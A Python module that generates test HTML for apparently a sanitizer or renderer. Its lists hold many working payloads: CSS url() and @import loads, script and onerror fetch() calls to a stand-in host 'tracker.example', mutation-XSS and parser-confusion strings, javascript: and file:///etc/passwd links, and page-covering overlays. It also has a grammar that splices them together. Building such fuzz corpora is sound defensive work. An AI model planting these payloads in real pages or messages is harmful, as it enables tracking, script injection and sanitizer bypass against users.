"""HTML that wants to load, run or cover something: each kind once, and a grammar that mixes them.

In the pieces `URL` stands for an address elsewhere and `HOST` for its host.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from random import Random

URL = "http://tracker.example/x"
HOST = "tracker.example"

IMAGE_PROPERTIES = """background background-image border-image border-image-source clip-path content cursor
    filter backdrop-filter list-style list-style-image mask mask-image offset-path shape-outside src
    -webkit-mask-box-image -webkit-box-reflect -webkit-mask marker-start fill stroke behavior -moz-binding
    grid-template-areas view-transition-name anchor-name""".split()
IMAGE_VALUES = (
    "url(URL)",
    "url('URL')",
    "u\\72l(URL)",
    "\\000075rl(URL)",
    "url(/**/URL)",
    "image-set('URL' 1x)",
    "-webkit-image-set(url(URL) 1x)",
    "cross-fade(url(URL), url(URL), 50%)",
    "-webkit-cross-fade(url(URL), url(URL), .5)",
    "image('URL')",
    "src('URL')",
    "element(#a)",
    "paint(x)",
    "url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='URL'/></svg>)",
    "var(--x, url(URL))",
    "attr(title type(<url>))",
    "env(x, url(URL))",
    "expression(document.images[0].src='URL')",
    "url(//HOST/x)",
    "url(\\\\HOST\\x)",
    "url(URL",
)
SHEETS = (
    "@import 'URL';",
    "@import url(URL) screen;",
    "@import url(URL) layer(a) supports(display:grid);",
    "@charset 'x'; @import \"//HOST/x\";",
    "@font-face{font-family:x;src:url(URL)} p{font-family:x}",
    "@font-face{font-family:x;src:local(Arial),url(URL);unicode-range:U+0-10FFFF} *{font-family:x}",
    "@media screen{p{background:url(URL)}}",
    "@supports (display:block){p{background:url(URL)}}",
    "@container (width>1px){p{background:url(URL)}}",
    "@namespace url(URL);",
    "@counter-style x{system:cyclic;symbols:url(URL)} li{list-style:x}",
    "@page{background:url(URL)}",
    "@keyframes x{to{background:url(URL)}} p{animation:x 1s}",
    "@property --x{syntax:'<url>';inherits:true;initial-value:url(URL)} p{background:var(--x)}",
    "a:visited{background:url(URL)}",
    "a:hover,a:focus,:target,:root{background:url(URL)}",
    "input[value^=a]{background:url(URL)}",
    "p::before{content:url(URL)} p::marker{content:url(URL)} ::selection{background:url(URL)}",
    "p{--x:url(URL);background:var(--x)}",
    "<!-- p{background:url(URL)} -->",
    "p{background:url(URL",
    "@layer a{p{background:url(URL)}}",
    "@scope(p){:scope{background:url(URL)}}",
    "p{&:hover{background:url(URL)}}",
)
ELEMENTS = (
    "<img src=URL>",
    "<img SRC = 'URL'>",
    "<img/src=URL/>",
    "<img src=//HOST/x>",
    "<img src='\\\\HOST\\x'>",
    "<img src='/\\HOST/x'>",
    "<img src='https:HOST/x'>",
    "<img src='ht\ntp://HOST/x'>",
    "<img src='&#x68;ttp://HOST/x'>",
    "<img src='\x01http://HOST/x'>",
    "<img src=x: onerror=\"new Image().src='URL'\">",
    "<img srcset='URL 1x, URL 2x' sizes=100vw>",
    "<img loading=lazy decoding=async fetchpriority=high src=URL>",
    "<img dynsrc=URL lowsrc=URL longdesc=URL usemap=URL>",
    "<img src=x src=URL>",
    "<img src=cid:x?URL>",
    "<img src=attributionsrc attributionsrc=URL>",
    "<image src=URL><image xlink:href=URL>",
    "<picture><source srcset=URL media='(min-width:1px)'><img></picture>",
    "<video src=URL poster=URL autoplay></video>",
    "<video><source src=URL><track default src=URL></video>",
    "<audio src=URL autoplay></audio><bgsound src=URL>",
    "<iframe src=URL></iframe>",
    "<iframe srcdoc=\"<img src='URL'><script>fetch('URL')</script>\"></iframe>",
    "<iframe src='javascript:fetch(\"URL\")'></iframe>",
    "<iframe src='data:text/html,<img src=URL>'></iframe>",
    "<frameset><frame src=URL></frameset>",
    "<fencedframe src=URL></fencedframe><portal src=URL></portal>",
    "<object data=URL type=text/html><param name=src value=URL></object>",
    "<object data='data:text/html,<img src=URL>'></object>",
    "<object classid=clsid:x codebase=URL></object>",
    "<embed src=URL><embed src='data:image/svg+xml,<svg onload=fetch(\"URL\")>'>",
    "<applet code=x codebase=URL archive=URL></applet>",
    "<script src=URL></script>",
    "<script>fetch('URL')</script>",
    "<script type=module>import 'URL'</script>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["URL"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"URL"}}</script>',
    "<script>new RTCPeerConnection({iceServers:[{urls:'stun:HOST'}]}).createOffer()</script>",
    "<script>new WebSocket('ws://HOST')</script><script>navigator.sendBeacon('URL')</script>",
    "<script>open(URL.createObjectURL(new Blob(['<img src=URL>'],{type:'text/html'})))</script>",
    "<link rel=stylesheet href=URL>",
    "<link rel='alternate stylesheet' href=URL>",
    "<link rel=icon href=URL><link rel=apple-touch-icon href=URL><link rel=mask-icon href=URL>",
    "<link rel=dns-prefetch href=//HOST><link rel=preconnect href=//HOST>",
    "<link rel=prefetch href=URL><link rel=prerender href=URL><link rel=modulepreload href=URL>",
    "<link rel=preload as=image href=URL imagesrcset=URL>",
    "<link rel=manifest href=URL><link rel=import href=URL><link rel=search href=URL>",
    "<link rel=pingback href=URL><link rel=amphtml href=URL><link rel=expect href=URL blocking=render>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<img src=URL>'>",
    "<meta http-equiv=link content='<URL>;rel=preload;as=image'>",
    "<meta http-equiv=Content-Security-Policy content='img-src *;report-uri URL'>",
    "<meta http-equiv=x-dns-prefetch-control content=on><a href='//HOST'>x</a>",
    "<meta http-equiv=set-cookie content='a=b'><meta http-equiv=origin-trial content=x>",
    "<base href=URL><img src=y><a href=z>z</a>",
    "<base href='//HOST/'><link rel=stylesheet href=y>",
    "<form action=URL><input name=q autofocus><button>x</button></form>",
    "<form id=f action=URL></form><button form=f formaction=URL autofocus onfocus=click()>x</button>",
    "<input type=image src=URL><input type=submit formaction=URL>",
    "<isindex action=URL prompt=x><keygen autofocus>",
    "<a href=/ ping=URL>x</a><area ping=URL href=x>",
    "<map name=m><area shape=default href='javascript:fetch(\"URL\")'></map><img usemap=#m src=cid:x>",
    "<html manifest=URL><body background=URL onload=fetch('URL')>",
    "<table background=URL><tr background=URL><td background=URL>x</table>",
    "<layer src=URL></layer><ilayer src=URL></ilayer><xml src=URL></xml>",
    "<blockquote cite=URL><q cite=URL>x</q></blockquote><ins cite=URL>x</ins>",
    "<svg><image href=URL xlink:href=URL width=9 height=9 /></svg>",
    "<svg><use href='URL#a' xlink:href='URL#a' /></svg>",
    "<svg><filter id=f><feImage href=URL /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "<svg><foreignObject><img src=URL><iframe src=URL></iframe></foreignObject></svg>",
    "<svg><style>@import 'URL';</style></svg>",
    "<svg><script href=URL></script><script>fetch('URL')</script></svg>",
    "<svg><animate attributeName=href values=URL /><set attributeName=href to=URL /></svg>",
    "<svg><a xlink:href='javascript:fetch(\"URL\")'><text y=9>x</text></a></svg>",
    "<svg><pattern id=p><image href=URL /></pattern><rect fill=url(#p) width=9 height=9 /></svg>",
    "<svg><mask id=m><image href=URL /></mask></svg><p style='mask:url(#m)'>x</p>",
    "<svg><font-face-uri xlink:href=URL /><color-profile xlink:href=URL /><tref xlink:href=URL /></svg>",
    "<?xml-stylesheet href='URL'?><svg xmlns='http://www.w3.org/2000/svg'/>",
    "<!DOCTYPE html PUBLIC 'x' 'URL' [<!ENTITY x SYSTEM 'URL'>]><p>&x;",
    "<math href='javascript:fetch(\"URL\")'><maction actiontype='statusline#URL'>x</maction></math>",
    "<math><mglyph src=URL /><annotation-xml encoding=text/html><img src=URL></annotation-xml></math>",
    "<amp-img src=URL></amp-img><amp-pixel src=URL></amp-pixel><amp-list src=URL></amp-list>",
    "<v:rect><v:fill src=URL /><v:imagedata src=URL /></v:rect>",
    "<o:OfficeDocumentSettings><o:p src=URL></o:p></o:OfficeDocumentSettings>",
    "<!--[if gte mso 9]><v:background fill=t><v:fill src=URL /></v:background><![endif]-->",
    "<!--[if !mso]><!--><img src=URL><!--<![endif]-->",
    "<![if !IE]><img src=URL><![endif]>",
    "<!--><img src=URL>-->",
    "<!--!><img src=URL>--!><img src=URL>",
    "<noscript><img src=URL></noscript>",
    "<noembed><img src=URL></noembed><noframes><img src=URL></noframes>",
    "<template><img src=URL></template>",
    "<div><template shadowrootmode=open><style>@import 'URL'</style><img src=URL></template></div>",
    "<textarea autofocus><img src=URL></textarea><title><img src=URL></title>",
    "<select><option><img src=URL></option></select><datalist id=d><option value=URL></datalist>",
    "<details open ontoggle=fetch('URL')><summary>x</summary><img src=URL></details>",
    "<dialog open><form method=dialog action=URL><input autofocus></form></dialog>",
    "<marquee onstart=fetch('URL')>x</marquee><blink>x</blink>",
    "<p contenteditable autofocus onfocus=fetch('URL') tabindex=1 accesskey=x>x</p>",
    "<p popover popovertarget=x>x</p><button popovertarget=x commandfor=x command=show-popover>x</button>",
    "<a href='javascript:fetch(\"URL\")'>x</a><a href=' &#1;java\tscript:x'>x</a>",
    "<a href='data:text/html,<script>fetch(\"URL\")</script>'>x</a><a href='blob:URL'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='vbscript:x'>x</a><a href='intent://HOST#Intent;end'>x</a>",
    "<a href='view-source:URL'>x</a><a href='jar:URL!/'>x</a><a href='filesystem:URL'>x</a>",
    "<img src='file:///etc/passwd'><img src='file://///HOST/share/x.png'><img src='ftp://HOST/x'>",
    "<img src='view-source:URL'><img src='blob:URL'><img src='tomail://m1/picture/0'><img src='qrc:/x'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4='>",
    "<img src='data:text/html,<img src=URL>'><img src='DATA:image/svg+xml,<svg onload=x>'>",
    "<div style='position:fixed;inset:0;z-index:9;background:red'>x</div>",
    "<div style='position:absolute;top:-200px;left:-300px;width:4000px;height:4000px'>x</div>",
    "<p style='margin-top:-500px'>x</p><p style='transform:scale(99)'>x</p>",
    "<p style='display:block;float:left;margin:-100000px'>x",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src='URL' onerror=x&gt;\">",
    '<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=fetch("URL")>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src="URL" onerror=x>',
    '<svg></p><style><a id="</style><img src=URL onerror=x>">',
    "<svg><style><!--</style><!--&lt;--&gt;&lt;img src=URL&gt;--></style>",
    "<svg><title><a title='</title><img src=URL>'>x</a></title></svg>",
    "<svg><desc><![CDATA[</desc><img src=URL onerror=x>]]></desc></svg>",
    '<noscript><p title="</noscript><img src=URL onerror=x>">',
    '<noembed><p title="</noembed><img src=URL>">x</noembed>',
    '<xmp><p id="</xmp><img src=URL onerror=x>"></xmp>',
    '<textarea><p title="</textarea><img src=URL>">',
    '<title><p title="</title><img src=URL>">',
    "<template><style></template><img src=URL onerror=x></style>",
    "<select><template><style></select><img src=URL>--></style>",
    "<option><style></option></select><img src=URL onerror=x></style>",
    '<iframe><p title="</iframe><img src=URL onerror=x>">',
    "<plaintext><img src=URL>",
    "<listing>&lt;img src='URL'&gt;</listing><pre>\n\n&lt;img src=URL&gt;</pre>",
    "<a><table><a><img src=URL></table>",
    "<table><td><svg><desc><td><a title='></td><img src=URL>'>",
    "<p><table><tr><td><p></table><img src=URL>",
    "<b><p></b><i></p><svg><b></svg><img src=URL></i>",
    "<dl><dt><dd><li><svg><li></svg></dd><img src=URL>",
    '<div id="1\n\n<img src=URL onerror=x>">',
    "<img title='\"><img src=URL>'><a title=`><img src=URL>`>x</a>",
    "<a title=\"&quot;&gt;&lt;img src=URL&gt;\">x</a><p title='&lt;/p&gt;&lt;script&gt;'>x",
    "<p title='\u2028><img src=URL>'>x</p><\x00img src=URL><i\x00mg src=URL>",
    "<img\x0bsrc=URL><img\x0csrc=URL><img\u00a0src=URL>",
    "<<img src=URL>><</p/><img src=URL>",
    "</br><img src=URL><//p><!x><!-><?x?>",
    "<math><annotation-xml encoding='text/html'><style><img title=\"</style><img src=URL>\">",
    "<svg><foreignObject><math><mi><style><img title='</style><img src=URL>'>",
    "<form><input name=attributes><input name=innerHTML><input name=nodeName></form><img src=URL>",
    "<a id=body name=createElement href=x></a><img name=getElementById src=URL>",
    "<div>" * 600 + "<svg><style><p title='</style><img src=URL>'>",
    "<font>" * 520 + "<img src=URL>",
    "<table>" * 300 + "<p><img src=URL>",
)
LOOSE = (
    *("<p>", "</p>", "<table>", "<tr>", "<td>", "</table>", "<svg>", "</svg>", "<math>", "</math>"),
    "<mtext>",
    *("<style>", "</style>", "<title>", "</title>", "<textarea>", "</textarea>", "<noscript>", "</noscript>"),
    *("<template>", "</template>", "<select>", "</select>", "<xmp>", "</xmp>", "<a href='x'>", "</a>", "<b>"),
    *("</b>", "<form>", "</form>", "<mglyph>", "<desc>", "<foreignObject>", "<!--", "-->"),
    "<annotation-xml>",
    *("<![CDATA[", "]]>", "'", '"', "`", "<", ">", "/>", "&lt;", "&gt;", "&quot;", "&#x3c;", "\x00", "\x0c"),
    *("<a title='", "<p style='", "<img alt=\"", " onerror=", " src=URL ", "=", "\u2028", "</", "<!", "<?"),
)  # fmt: skip


def vectors(url: str = URL) -> list[str]:
    """Every kind once, asking for `url`."""
    host = url.split("/")[2]
    pairs = product(IMAGE_PROPERTIES, IMAGE_VALUES)
    styles = [f'<p style="{name}:{_quoted(value)}">x</p>' for name, value in pairs]
    sheets = [f"<style>{sheet}</style><p>x<a href='//HOST'>y</a><ul><li>z</ul>" for sheet in SHEETS]
    found = [*ELEMENTS, *MUTATIONS, *sheets, *styles]
    return [each.replace("URL", url).replace("HOST", host) for each in found]


def mixtures(seed: int, count: int, url: str = URL) -> Iterator[str]:
    """`count` documents in which vectors, cut anywhere, stand in one another."""
    random, known = Random(seed), vectors(url)
    for _ in range(count):
        pieces = [_piece(random, known) for _ in range(random.randint(1, 10))]
        yield "".join(pieces).replace("URL", url)


def _piece(random: Random, known: list[str]) -> str:
    if random.random() < 0.5:
        return random.choice(LOOSE)
    vector = random.choice(known)
    if random.random() < 0.5:
        return vector
    cut = random.randrange(len(vector) + 1)
    return vector[:cut] + random.choice(LOOSE) * random.randint(0, 2) + vector[cut:]


def _quoted(value: str) -> str:
    return value.replace('"', "&quot;")
